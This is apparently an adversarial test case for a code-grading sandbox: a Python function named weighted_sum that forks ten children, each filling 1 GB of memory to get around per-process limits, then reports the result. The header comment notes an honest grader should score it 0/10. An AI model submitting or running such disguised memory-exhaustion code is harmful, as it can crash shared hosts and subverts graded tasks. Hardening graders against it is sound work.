# ATTACK: RLIMIT_AS is per process and RLIMIT_NPROC allows 16: forks 10 children that each fill 1 GB (10 GB total; 16 x 2 GB = 32 GB possible > 24 GB RAM) and reports what it achieved. Honest grader: 0/10 for ex06 and a bounded total for the worker (cgroup memory limit).
import os, select, time
def weighted_sum(weights, V):
    r, w = os.pipe()
    kids = 0
    for _ in range(10):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                b = b"\x01" * (1024 * 1024 * 1024)
                os.write(w, b"1")
                time.sleep(30)
            finally:
                os._exit(0)
        kids += 1
    got, end = 0, time.time() + 2.6
    while got < kids and time.time() < end:
        if select.select([r], [], [], 0.1)[0]:
            got += len(os.read(r, 64))
    avail = [l for l in open("/proc/meminfo") if l.startswith("MemAvailable")][0].split()[1]
    raise MemoryError(f"{got} of {kids} children hold 1 GB each; MemAvailable {int(avail)//1024} MB")
